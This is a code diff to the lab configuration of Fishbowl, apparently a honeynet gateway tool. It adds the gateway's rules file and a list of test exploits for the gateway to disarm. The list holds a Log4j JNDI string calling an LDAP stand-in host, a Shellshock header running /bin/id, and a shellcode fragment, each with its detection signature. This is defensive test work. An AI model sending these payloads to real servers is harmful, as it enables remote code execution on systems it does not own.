@@ -1,6 +1,7 @@
 # SPDX-License-Identifier: Apache-2.0
 """The lab's plan: who is in it, with which addresses, daemons and weak accounts. Nothing here acts."""
 import os
+import sys
 from dataclasses import dataclass, field
 
 PREFIX = os.environ.get("FISHBOWL_LAB_PREFIX", "fb-lab-")
@@ -60,6 +61,17 @@ OUTSIDERS = [h for h in HOSTS if not h.honeypot]
 GATEWAY = PREFIX + "gateway"
 STREET = PREFIX + "street"  # the segment outside: one switch
 BY_NAME = {h.name: h for h in HOSTS}
+
+# What leaves and is disarmed: (name, server's port, bytes sent, the part that carries the attack).
+# The last one has the bytes of Figure 3 of the article on the Honeynet's GenII, at another port: DNS goes to
+# resolvers only.
+EXPLOITS = [
+	("Log4j", 80, b"GET / HTTP/1.1\r\nHost: victim\r\nUser-Agent: ${jndi:ldap://192.0.2.66/a}\r\n\r\n",
+		b"${jndi:ldap://"),
+	("Shellshock", 80, b"GET /cgi-bin/status HTTP/1.1\r\nHost: victim\r\nUser-Agent: () { :;}; /bin/id\r\n\r\n",
+		b"() { :;};"),
+	("shellcode", 443, b"\x00\x40query\xcd\x80\xe8\xd7\xff\xff\xff/bin/sh\x00", b"\xff\xff\xff/bin/sh"),
+]
 LIMITS = {"tcp": 10, "udp": 20, "icmp": 20, "other": 5}
 
 
@@ -73,12 +85,22 @@ def path(*parts):
 	return os.path.join(STATE, *parts)
 
 
+def rules():
+	"""The rules that come with Fishbowl: beside the lab's script in a build tree, else where they are installed."""
+	here = os.path.dirname(os.path.realpath(sys.argv[0]))
+	for place in ("", "../../share/fishbowl/rules"):
+		candidate = os.path.normpath(os.path.join(here, place, "outbound.rules"))
+		if os.path.exists(candidate):
+			return candidate
+	raise SystemExit("fishbowl lab: outbound.rules is not there; install Fishbowl again")
+
+
 def gateway_config():
 	nics = ", ".join(f'"{h.name}"' for h in HONEYPOTS)
 	lines = ["# Made by `fishbowl lab up`.", 'outside = "outside"', f"inside = {{{nics}}}",
 		'honeynet = "lab"', f'state_dir = "{path("gateway", "state")}"',
 		f'run_dir = "{path("gateway", "run")}"', f'eve_file = "{path("gateway", "eve.json")}"',
-		"syslog = false", 'capture { budget = "2G" }']
+		f'rules = {{"{rules()}"}}', "syslog = false", 'capture { budget = "2G" }']
 	lines += [f'honeypot "{h.name}" {{ address = {{"{h.ip4}", "{h.ip6}"}} mac = "{h.mac}" }}'
 		for h in HONEYPOTS]
 	return "\n".join(lines) + "\n"
